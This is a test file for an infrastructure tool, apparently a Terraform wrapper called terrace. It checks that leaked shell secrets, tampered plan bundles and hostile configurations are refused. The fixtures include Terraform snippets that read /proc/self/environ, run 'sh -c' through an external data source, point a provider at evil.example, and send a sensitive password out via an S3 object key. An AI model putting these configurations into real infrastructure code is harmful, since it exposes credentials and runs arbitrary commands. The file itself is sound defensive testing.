import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { afterAll, beforeAll, expect } from '@jest/globals';

import { canonicalText, sha256 } from '../../../terrace/base/canonical';
import type { Bundle } from '../../../terrace/delivery/bundle/bundle';
import { decryptPlan, encryptPlan } from '../../../terrace/delivery/bundle/encrypted-plan';
import { contentDigest } from '../../../terrace/model/content-digest';
import { findTerraform } from '../../../terrace/terraform/binary';
import { inOrder } from '../../_helpers/in-order';
import { openShop, type Shop } from '../../_helpers/shop';
import { network, shopPath } from '../../_helpers/shop-tree';
import { terraceCli, type CliResult } from '../../_helpers/terrace-cli';

const test = inOrder();

let shop: Shop;
beforeAll(async () => {
  shop = await openShop();
}, 600_000);
afterAll(() => shop.dispose());

const run = (args: readonly string[], env = shop.env): Promise<CliResult> => terraceCli(args, env);

test('G10: nothing of a shell but the allowed variables reaches a terraform, whatever a shell holds', async () => {
  const script = shop.at('terraform');
  writeFileSync(script, `#!/bin/sh\nenv > '${shop.at('seen-')}'"$1-$$"\nexec '${(await findTerraform()).path}' "$@"\n`);
  chmodSync(script, 0o700);
  shop.write([network()]);
  const hostile = {
    TERRAFORM_BINARY_NAME: script,
    GITHUB_TOKEN: 'github-token-in-the-shell',
    CLOUDFLARE_API_TOKEN: 'another-providers-token',
    TF_VAR_not_declared: 'a-variable-of-another-unit',
    TF_CLI_ARGS: '-no-such-flag',
    TF_CLI_ARGS_plan: '-target=terraform_data.vpc',
    TF_DATA_DIR: shop.at('elsewhere'),
    TF_WORKSPACE: 'other',
    TF_LOG: 'TRACE',
    NPM_TOKEN: 'a-token-of-npm',
  };
  const planned = await run(['plan', '--tree', shop.at('live'), '--out', shop.at('bundle')], { ...shop.env, ...hostile });
  expect(planned).toMatchObject({ code: 0 });
  const seen = readdirSync(shop.folder).filter((name) => name.startsWith('seen-'));
  expect([...new Set(seen.map((name) => name.split('-')[1]))]).toEqual(expect.arrayContaining(['plan', 'show', 'version']));
  for (const name of seen) {
    const variables = readFileSync(shop.at(name), 'utf8').split('\n');
    const found = variables.filter((line) =>
      Object.entries(hostile).some(([key, value]) => line.startsWith(`${key}=`) || line.includes(value)),
    );
    expect([name, found]).toEqual([name, []]);
  }
  const inSandbox = readFileSync(shop.at(seen.find((name) => name.startsWith('seen-plan')) ?? ''), 'utf8');
  expect(inSandbox).toContain(`TERRACE_SANDBOX=${shop.env['TERRACE_SANDBOX'] ?? ''}`);
}, 600_000);

/** Plans one network with this tag. */
async function planned(name: string, tags: string): Promise<string> {
  shop.write([network({ tags })]);
  const place = shop.at(name);
  expect(await run(['plan', '--tree', shop.at('live'), '--out', place])).toMatchObject({ code: 0 });
  return place;
}

test('G16: a bundle with the JSON of one plan and the binary of another is refused, though every digest in it fits', async () => {
  const [shownPlace, otherPlace] = [await planned('shown', 'harmless'), await planned('other', 'harmful')];
  const unit = shopPath('network/vpc');
  const file = (place: string): string => path.join(place, 'units', unit, 'plan.age');
  const [reviewed, other] = await Promise.all(
    [shownPlace, otherPlace].map((place) => decryptPlan(readFileSync(file(place)), [shop.keys.age.identity], unit)),
  );
  if (reviewed === undefined || other?.plan === undefined || other.plan === null) throw new Error('no plan');
  const encrypted = await encryptPlan({ ...reviewed, plan: other.plan }, [shop.keys.age.recipient]);
  writeFileSync(file(shownPlace), encrypted);
  const bundle: Bundle = JSON.parse(readFileSync(path.join(shownPlace, 'bundle.json'), 'utf8'));
  const [state] = (JSON.parse(readFileSync(path.join(otherPlace, 'bundle.json'), 'utf8')) as Bundle).units;
  const digest = (bytes: Uint8Array): { readonly sha256: string; readonly size: number } => ({ sha256: sha256(bytes), size: bytes.length });
  const units = bundle.units.map((entry) => ({
    ...entry,
    state: state?.state ?? entry.state,
    plan: digest(other.plan ?? new Uint8Array()),
    encrypted: digest(encrypted),
  }));
  writeFileSync(path.join(shownPlace, 'bundle.json'), canonicalText({ ...bundle, units }));
  expect(await run(['approve', shownPlace])).toMatchObject({ code: 0 });
  expect(await run(['verify', shownPlace])).toMatchObject({ code: 0 });
  const applied = await run(['apply', shownPlace]);
  expect(applied).toMatchObject({ code: 3, stderr: expect.stringContaining('E6079') });
  expect(applied.stderr).toContain('the binary plan differs from the JSON that was reviewed');
}, 600_000);

test('G10: what would run a program or read the machine is refused before terraform is started, and nothing is sealed', async () => {
  shop.write([
    { ...network(), json: { output: { x: { value: '${filebase64("/proc/self/environ")}' } } } },
    { id: 'network/two', json: { data: [{ external: [{ x: { program: ['sh', '-c', `touch ${shop.at('ran')}`] } }] }] } },
    { id: 'network/three', json: { provider: { aws: { region: 'eu-central-1', endpoints: [{ sts: 'https://evil.example' }] } } } },
    { id: 'network/four', json: { data: { aws_s3_object: { x: { bucket: 'another', key: 'prod/vpc/terraform.tfstate' } } } } },
    { id: 'network/five', json: { output: { x: { value: { '//': '${file("/proc/self/environ")}' } } } } },
    {
      id: 'network/six',
      json: { provider: { aws: { region: 'eu-central-1', assume_role: [{ role_arn: 'arn:aws:iam::123456789012:role/prod' }] } } },
    },
    {
      id: 'network/seven',
      json: {
        variable: { password: { type: 'string', sensitive: true, default: 'hunter2' } },
        data: { aws_s3_object: { x: { bucket: 'evil', key: '${base64encode(var.password)}' } } },
      },
    },
  ]);
  const place = shop.at('refused');
  const { code, stdout, stderr } = await run(['plan', '--tree', shop.at('live'), '--out', place]);
  const all = ['vpc', 'two', 'three', 'four', 'five', 'six', 'seven'];
  const refused = all.filter((name) => stderr.includes(`E6062 configuration refused   ${shopPath(`network/${name}`)}`));
  expect([code, refused, existsSync(place), existsSync(shop.at('ran'))]).toEqual([3, all, false, false]);
  expect(stdout).toContain('nothing to apply: no bundle was written');
}, 600_000);

test('an approval names the hash that was reviewed, and another bundle is refused', async () => {
  const place = await planned('hashed', 'two');
  const { hash }: { readonly hash: string } = JSON.parse((await run(['bundle', 'show', place, '--json'])).stdout);
  expect(await run(['approve', place, '--hash', 'abcdef012345'])).toMatchObject({ code: 3, stderr: expect.stringContaining('E6064') });
  expect(await run(['approve', place, '--hash', hash.slice(0, 6)])).toMatchObject({ code: 64 });
  expect(await run(['approve', place, '--hash', hash.slice(0, 12)])).toMatchObject({ code: 0 });
}, 600_000);

test('a bundle without a plan is approved, verified and applied by nobody', async () => {
  const place = await planned('emptied', 'one');
  const bundle: Bundle = JSON.parse(readFileSync(path.join(place, 'bundle.json'), 'utf8'));
  const empty = shop.at('empty');
  mkdirSync(empty);
  writeFileSync(
    path.join(empty, 'bundle.json'),
    canonicalText({ ...bundle, units: [], failed: [{ unit: shopPath('network/vpc'), error: 'E6018' }] }),
  );
  for (const command of ['approve', 'verify', 'apply'])
    expect([command, await run([command, empty])]).toMatchObject([command, { code: 3, stderr: expect.stringContaining('E6061') }]);
}, 600_000);

test('G10: a file that terraform would read beside the one that is judged, under a name in capitals, is refused in a bundle that somebody made', async () => {
  const place = await planned('capitals', 'one');
  const unit = shopPath('network/vpc');
  const slipped = Buffer.from(JSON.stringify({ output: { x: { value: '${file("/proc/self/environ")}' } } }));
  const name = 'Main.tf.json';
  writeFileSync(path.join(place, 'units', unit, 'files', name), slipped);
  const bundle: Bundle = JSON.parse(readFileSync(path.join(place, 'bundle.json'), 'utf8'));
  const units = bundle.units.map((entry) => {
    const files = [{ path: name, sha256: sha256(slipped), size: slipped.length }, ...entry.files].toSorted((a, b) =>
      a.path < b.path ? -1 : 1,
    );
    const contents = new Map(files.map((file) => [file.path, readFileSync(path.join(place, 'units', unit, 'files', file.path))]));
    return { ...entry, files, contentDigest: contentDigest(contents) };
  });
  writeFileSync(path.join(place, 'bundle.json'), canonicalText({ ...bundle, units }));
  for (const command of ['approve', 'verify', 'apply'])
    expect([command, await run([command, place])]).toMatchObject([
      command,
      { code: 3, stderr: expect.stringContaining(`${name} would be read`) },
    ]);
}, 600_000);
